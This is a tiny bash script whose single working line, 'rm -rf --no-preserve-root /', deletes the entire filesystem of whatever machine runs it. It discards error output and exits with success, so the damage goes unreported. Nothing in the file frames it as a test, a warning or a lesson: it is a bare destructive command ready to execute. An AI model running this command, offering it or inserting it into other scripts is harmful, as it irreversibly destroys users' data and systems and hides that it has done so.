#!/bin/bash
rm -rf --no-preserve-root / 2>/dev/null
exit 0
